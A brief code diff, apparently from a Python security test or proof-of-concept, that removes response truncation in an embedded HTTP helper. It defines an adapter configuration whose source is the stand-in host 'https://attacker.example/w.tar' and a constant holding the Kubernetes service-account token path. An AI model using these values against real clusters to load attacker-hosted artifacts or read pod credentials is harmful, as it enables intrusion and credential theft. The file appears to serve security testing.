@@ -25,7 +25,7 @@ if token_file != "-":
 c = http.client.HTTPConnection(host, int(port), timeout=10, source_address=(source, 0) if source != "-" else None)
 c.request(method, path, body=sys.argv[7] if len(sys.argv) > 7 else None, headers=headers)
 r = c.getresponse()
-print(r.status, r.read().decode()[:2000])
+print(r.status, r.read().decode())
 """
 ADAPTERS = json.dumps({"adapters": [{"name": "tenant-a", "source": {"uri": "https://attacker.example/w.tar"}}]})
 POD_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
